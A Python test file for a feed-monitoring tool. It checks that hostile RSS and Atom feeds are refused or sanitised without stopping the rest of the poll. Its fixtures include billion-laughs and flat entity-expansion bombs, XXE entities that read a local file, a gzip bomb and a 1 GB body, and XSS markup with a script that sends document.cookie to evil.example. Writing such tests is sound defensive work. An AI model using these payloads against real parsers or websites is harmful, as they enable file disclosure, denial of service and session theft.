"""Hostile and broken feeds, served by a real HTTP server on 127.0.0.1 and read through the real
fetcher, feed reading and pipeline into SQLite (in-process, or `monitor poll` in a subprocess):
each is stored cleanly or refused with one line naming the feed and the reason, in bounded time
and memory, and the rest of the poll carries on.

A redirect loop is in tests/test_poller.py (test_a_broken_feed_is_reported_with_its_reason...)
and tests/test_fetch.py; a silent server too."""

from __future__ import annotations

import io
import os
import random
import subprocess
import sys
import time
import unicodedata
from collections.abc import Iterable, Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import feedparser
import pytest

from monitor.alert import ConsoleNotifier
from monitor.assembly import assemble
from monitor.config import load_settings
from monitor.daemon import Poller, PollResult, open_poller
from monitor.daemon.feeds import MAX_ENTRIES
from monitor.model import Report
from monitor.pipeline import Pipeline
from tests.conftest import HANG_S, REPO, StepClock, hang_guard, poller_config
from tests.feedserver import FeedServer, Route, news_item, rss

# An atom feed around one entry whose title and body are given as raw XML.
ATOM_HEAD = (
    "<feed xmlns='http://www.w3.org/2005/Atom'><title>Hostile</title><id>urn:h</id>"
    "<updated>2026-11-20T10:00:00Z</updated>"
)


@contextmanager
def _poller(tmp_path: Path, feeds: dict[str, str], **polling: object) -> Iterator[Poller]:
    loaded = load_settings(poller_config(tmp_path, feeds, **polling), env={})
    with open_poller(
        assemble(loaded, notifier=ConsoleNotifier(io.StringIO())),
        deliver_inline=False,
        rng=random.Random(1),
    ) as poller:
        yield poller


def _poll_one(
    tmp_path: Path,
    feed_server: FeedServer,
    body: bytes,
    guard_s: float = HANG_S,
    into: list[int] | None = None,
    **polling: object,
) -> tuple[PollResult, list[Report]]:
    """Poll one feed serving `body` beside a good one; the hostile feed's result and the reports
    stored from it. The poll fails the test if it runs past `guard_s` (a hang). `into`, when
    given, gets the number of entries each call hands the pipeline."""
    feeds = {
        "hostile": feed_server.serve("/hostile", Route(body=body)),
        "good": feed_server.serve("/good", Route(body=rss("G", [news_item(1)]))),
    }
    with _poller(tmp_path, feeds, **polling) as poller, hang_guard(guard_s):
        if into is not None:
            _count_entries(poller.pipeline, into)
        results = {r.feed: r for r in poller.poll(list(feeds))}
        stored = [poller.store.get(n) for n in range(1, poller.store.count() + 1)]
    assert results["good"].counts["new"] == 1, "the good feed is ingested whatever the other does"
    reports = [s.report for s in stored if s is not None and s.report.source == "hostile"]
    return results["hostile"], reports


def _count_entries(pipeline: Pipeline, into: list[int]) -> None:
    """Record in `into` how many entries each poll hands `pipeline` (the work that grows with a
    feed's length)."""
    process_many = pipeline.process_many

    def counted(entries: Iterable[Any]) -> Iterator[Any]:
        entries = list(entries)
        into.append(len(entries))
        return process_many(entries)

    pipeline.process_many = counted  # type: ignore[method-assign]


def _everything_written(tmp_path: Path) -> bytes:
    return b"".join(p.read_bytes() for p in (tmp_path / "data").rglob("*") if p.is_file())


# --- XML entities -------------------------------------------------------------------------------

LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE rss [\n <!ENTITY lol "lol">\n'
    + b"".join(
        b' <!ENTITY lol%d "%s">\n' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
        for n in range(1, 10)
    )
    + b"]>\n<rss version='2.0'><channel><title>L</title><item><guid>l1</guid>"
    b"<title>Laughs &lol9;</title><description>In Sirte &lol9;</description></item>"
    b"</channel></rss>"
)
# Flat entities pass feedparser's own check ("safe": no entity inside) and it expands them
# itself once expat gives up: 60 KB of document would become 1 GB of text.
FLAT_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE rss [\n <!ENTITY big "'
    + b"A" * 50_000
    + b'">\n]>\n<rss version="2.0"><channel><title>F</title><item><guid>f1</guid>'
    b"<title>Flat</title><description>" + b"&big;" * 20_000 + b"</description></item>"
    b"</channel></rss>"
)


@pytest.mark.parametrize("body", [LAUGHS, FLAT_LAUGHS], ids=["billion-laughs", "flat-entities"])
def test_an_entity_expansion_is_refused_quickly(
    tmp_path: Path, feed_server: FeedServer, body: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Quickly: refused before it is parsed, so never expanded (expanded, the flat one takes
    # minutes and gigabytes). What feedparser is handed is recorded: the good feed only.
    parsed: list[bytes] = []
    parse = feedparser.parse

    def recorded(stream: io.BytesIO, *args: Any, **kwargs: Any) -> Any:
        parsed.append(stream.getvalue())
        return parse(stream, *args, **kwargs)

    monkeypatch.setattr(feedparser, "parse", recorded)
    result, reports = _poll_one(tmp_path, feed_server, body)
    assert len(parsed) == 1 and b"ENTITY" not in parsed[0]  # the good feed's, not this one
    assert not result.ok and not reports
    assert result.reason is not None and result.reason.startswith("declares XML entities")
    line = result.line(datetime.now(UTC))
    assert line.startswith("feed 'hostile' failed: declares XML entities (<!ENTITY>)")


def test_an_external_entity_never_reads_the_local_file(
    tmp_path: Path, feed_server: FeedServer
) -> None:
    marker = f"SECRET-{os.getpid()}-{time.monotonic_ns()}"
    secret = tmp_path / "secret.txt"
    secret.write_text(marker, encoding="utf-8")
    documents = {
        # A general entity, a parameter entity, and an external DTD.
        "general": f'<?xml version="1.0"?>\n<!DOCTYPE rss [\n <!ENTITY x SYSTEM "file://{secret}">'
        "\n]>\n<rss version='2.0'><channel><title>X</title><item><guid>x1</guid>"
        "<title>Sirte &x;</title><description>Clashes &x;</description></item></channel></rss>",
        "parameter": f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "file://{secret}">'
        " %p;]><rss version='2.0'><channel><title>X</title><item><guid>x2</guid>"
        "<title>Sirte</title><description>Clashes in Sirte.</description></item></channel></rss>",
        "dtd": f'<?xml version="1.0"?>\n<!DOCTYPE rss SYSTEM "file://{secret}">\n'
        "<rss version='2.0'><channel><title>X</title><item><guid>x3</guid>"
        "<title>Misrata</title><description>Clashes in Misrata.</description></item>"
        "</channel></rss>",
    }
    feeds = {
        name: feed_server.serve(f"/{name}", Route(body=doc.encode()))
        for name, doc in documents.items()
    }
    config = poller_config(tmp_path, feeds)
    run = _monitor_poll(config, tmp_path)
    assert run.returncode == 1, run.stderr  # the two documents that declare entities fail
    for name in ("general", "parameter"):
        size = len(documents[name].encode())
        assert (
            f"feed '{name}' failed: declares XML entities (<!ENTITY>); refused, as expanding "
            f"them can exhaust memory (application/rss+xml, {size:,} bytes)" in run.stdout
        )
    assert "feed 'dtd': 1 entries, 1 new" in run.stdout  # an external DTD is never fetched
    for output in (run.stdout, run.stderr, _everything_written(tmp_path).decode("latin-1")):
        assert marker not in output


# --- size and time ------------------------------------------------------------------------------


def _monitor_poll(config: Path, tmp_path: Path) -> subprocess.CompletedProcess[str]:
    return _run_measured(config, tmp_path)[0]


def _run_measured(config: Path, tmp_path: Path) -> tuple[subprocess.CompletedProcess[str], int]:
    """`monitor poll --all` in a subprocess; its result and its peak resident memory in bytes."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("MONITOR_")}
    env["PYTHONPATH"] = str(REPO)
    out, err = tmp_path / "poll.out", tmp_path / "poll.err"
    with out.open("w") as stdout, err.open("w") as stderr:
        process = subprocess.Popen(
            [sys.executable, "-m", "monitor", "poll", "--all", "--config", str(config)],
            stdout=stdout,
            stderr=stderr,
            stdin=subprocess.DEVNULL,
            env=env,
            cwd=tmp_path,
        )
        deadline = time.monotonic() + HANG_S
        while True:
            pid, status, usage = os.wait4(process.pid, os.WNOHANG)
            if pid:
                break
            if time.monotonic() > deadline:
                process.kill()
                process.wait()
                pytest.fail(f"monitor poll did not finish within {HANG_S:g} s: a hang")
            time.sleep(0.05)
    process.returncode = os.waitstatus_to_exitcode(status)
    result = subprocess.CompletedProcess(
        process.args, process.returncode, out.read_text("utf-8"), err.read_text("utf-8")
    )
    return result, usage.ru_maxrss * 1024  # kilobytes on Linux


def test_a_1_gb_body_and_a_gzip_bomb_are_cut_at_the_cap_in_flat_memory(
    tmp_path: Path, feed_server: FeedServer
) -> None:
    gib = 1 << 30
    feeds = {
        "endless": feed_server.serve("/endless", Route(mode="huge", size=gib)),
        "bomb": feed_server.serve("/bomb", Route(mode="gzip-stream", size=gib)),
        "good": feed_server.serve("/good", Route(body=rss("G", [news_item(1)]))),
    }
    config = poller_config(tmp_path, feeds, max_body="10MiB")
    # Cut at the cap (each line says so), never read or expanded whole (the peak memory), and
    # over within HANG_S (_run_measured's guard against a hang), however slow the machine.
    run, peak = _run_measured(config, tmp_path)
    assert run.returncode == 1
    out = run.stdout
    assert "feed 'endless' failed: body larger than 10,485,760 bytes, cut there" in out
    assert "feed 'bomb' failed: body larger than 10,485,760 bytes, cut there" in out
    assert "feed 'good': 1 entries, 1 new" in out
    assert peak < 300 * 1024 * 1024, f"peak memory {peak / 2**20:.0f} MB"


def test_a_server_trickling_a_byte_a_second_is_cut_at_the_deadline(
    tmp_path: Path, feed_server: FeedServer
) -> None:
    # The fetch's deadline is kept by the fetcher's clock, here one that moves on 25 s at each
    # reading: the deadline (60 s) passes after the third byte, whatever the machine's speed.
    # (Each read's own wait, a real minute, only guards against a hang.) tests/test_fetch.py
    # shows the cut comes at the first piece read past the deadline.
    url = feed_server.serve("/trickle", Route(mode="trickle", delay_s=1.0))
    with _poller(tmp_path, {"trickle": url}, timeout="60s") as poller, hang_guard():
        poller.fetcher.monotonic = StepClock(25)
        (result,) = poller.poll(["trickle"])
    assert not result.ok and result.reason == "still reading after 60 s, cut"


@pytest.mark.slow
def test_a_feed_of_100000_entries_is_read_up_to_the_cap_and_says_so(
    tmp_path: Path, feed_server: FeedServer
) -> None:
    items = "".join(
        f"<item><guid>g{n}</guid><title>Report {n} from Sirte</title>"
        f"<description>Clashes near Sirte, day {n}.</description></item>"
        for n in range(100_000)
    )
    body = f"<rss version='2.0'><channel><title>Big</title>{items}</channel></rss>".encode()
    # What would take minutes is ingesting every entry: the pipeline is handed the first 1,000
    # only (one feed's poll, the good feed's the other). Reading the document takes what it
    # takes on the machine (20 s here with two other processes busy); the guard, far above it,
    # only catches a hang.
    handed: list[int] = []
    result, reports = _poll_one(
        tmp_path, feed_server, body, guard_s=3 * HANG_S, into=handed, max_body="32MiB"
    )
    assert sorted(handed) == [1, MAX_ENTRIES]
    assert result.ok and result.entries == MAX_ENTRIES and result.not_read == 100_000 - MAX_ENTRIES
    assert sum(result.counts.values()) == MAX_ENTRIES and len(reports) == result.counts["new"]
    assert reports[0].title == "Report 0 from Sirte"  # the first, newest in a feed, are kept
    line = result.line(datetime.now(UTC))
    assert "99,000 more not read (at most 1,000 a poll)" in line


# --- text ---------------------------------------------------------------------------------------

ARABIC = "اشتباكات في سرت بين قوات حفتر والمجلس الرئاسي"


def _rss(title: bytes, body: bytes, declaration: bytes = b"") -> bytes:
    return (
        declaration + b"<rss version='2.0'><channel><title>E</title><item><guid>e1</guid>"
        b"<title>" + title + b"</title><description>" + body + b"</description></item>"
        b"</channel></rss>"
    )


@pytest.mark.parametrize(
    ("body", "title", "text"),
    [
        # Declares UTF-8 but is windows-1256: read as Arabic, not as Latin mojibake.
        (
            _rss(
                ARABIC.encode("cp1256"),
                (ARABIC + " اليوم").encode("cp1256"),
                b'<?xml version="1.0" encoding="utf-8"?>',
            ),
            ARABIC,
            ARABIC + " اليوم",
        ),
        # Declares ISO-8859-1 but is UTF-8.
        (
            _rss(
                ARABIC.encode(),
                "Café in Misrata — closed".encode(),
                b"<?xml version='1.0' encoding='iso-8859-1'?>",
            ),
            ARABIC,
            "Café in Misrata — closed",
        ),
        # UTF-8 with a few bad bytes: those become U+FFFD, the Arabic around them stays.
        (
            _rss(ARABIC.encode() + b" \xff", ARABIC.encode() + b" \xc0\xaf \xed\xa0\x80 end"),
            ARABIC + " \ufffd",
            None,
        ),
    ],
    ids=["cp1256-declared-utf8", "utf8-declared-latin1", "invalid-utf8"],
)
def test_a_wrong_or_broken_encoding_is_read_as_text(
    tmp_path: Path, feed_server: FeedServer, body: bytes, title: str, text: str | None
) -> None:
    result, reports = _poll_one(tmp_path, feed_server, body)
    assert result.ok and result.counts["new"] == 1, result.reason
    (report,) = reports
    assert report.title == title
    if text is not None:
        assert report.text == text
    else:
        assert report.text.startswith(ARABIC) and report.text.endswith("end")
        assert "\ufffd" in report.text


def _no_hidden_characters(text: str) -> None:
    for char in text:
        category = unicodedata.category(char)
        assert char == "\n" or category not in ("Cc", "Cs"), f"{char!r} in {text[:80]!r}"
        assert not "\u202a" <= char <= "\u202e" and not "\u2066" <= char <= "\u2069"


def test_markup_scripts_control_and_bidi_characters_are_not_stored(
    tmp_path: Path, feed_server: FeedServer
) -> None:
    nasty = (
        "<b>Clashes</b> in <i>Sirte</i><script>alert('t')</script>&#7;&#27;[31m"
        "\u202egnp.exe\u202c \u2067isolate\u2069 \u200fمصراتة"
    )
    body = (
        "<p>Fighting in <a href='javascript:alert(1)'>Sirte</a>.</p>"
        "<script>document.location='http://evil.example/'+document.cookie</script>"
        "<style>p{display:none}</style><img src=x onerror=alert(1)>"
        "&#1;&#8;&#127;&#128;&#159; \u202eevil\u202c <iframe src='http://evil.example'></iframe>"
        "\u200fطرابلس end"
    )
    doc = (
        f"<?xml version='1.0' encoding='utf-8'?>{ATOM_HEAD}<entry><id>urn:e1</id>"
        f"<title type='html'>{_escape(nasty)}</title><updated>2026-11-20T10:00:00Z</updated>"
        f"<content type='html'>{_escape(body)}</content></entry></feed>"
    )
    result, reports = _poll_one(tmp_path, feed_server, doc.encode())
    assert result.ok, result.reason
    (report,) = reports
    for text in (report.title, report.text):
        _no_hidden_characters(text)
        for word in ("<script", "alert(", "document.cookie", "display:none", "onerror", "<"):
            assert word not in text
    assert report.title.startswith("Clashes in Sirte") and "\u200fمصراتة" in report.title
    assert report.text.startswith("Fighting in Sirte.") and report.text.endswith("طرابلس end")


def test_a_one_megabyte_word_is_stored_in_bounded_time(
    tmp_path: Path, feed_server: FeedServer
) -> None:
    word = "Sirte" + "a" * 1_000_000
    # Bounded: stored, not still running after HANG_S (the guard of every poll here).
    result, reports = _poll_one(tmp_path, feed_server, _rss(word.encode(), word.encode()))
    assert result.ok and result.counts["new"] == 1
    (report,) = reports
    assert report.text == word
    assert report.title == word[:1_000]  # no headline is longer; the text keeps it all


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


# --- dates --------------------------------------------------------------------------------------


def test_dates_in_year_9999_and_1900_and_none(tmp_path: Path, feed_server: FeedServer) -> None:
    dates = {
        "future": "Fri, 31 Dec 9999 23:59:59 +0000",
        "future-west": "Fri, 31 Dec 9999 23:59:59 -1200",  # past the last datetime in UTC
        "past": "Mon, 01 Jan 1900 00:00:00 +0000",
        "garbage": "the day after tomorrow",
        "none": "",
    }
    items = [
        news_item(n) | {"guid": name} | ({"pubDate": date} if date else {})
        for n, (name, date) in enumerate(dates.items(), start=10)
    ]
    result, reports = _poll_one(tmp_path, feed_server, rss("D", items))
    assert result.ok and result.counts["new"] == len(dates)
    published = {r.guid: r.published for r in reports}
    assert published["past"] is not None and published["past"].year == 1900
    # A date years after the fetch is a mistake: the report is kept without one.
    assert published == {"future": None, "future-west": None, "past": published["past"]} | {
        "garbage": None,
        "none": None,
    }
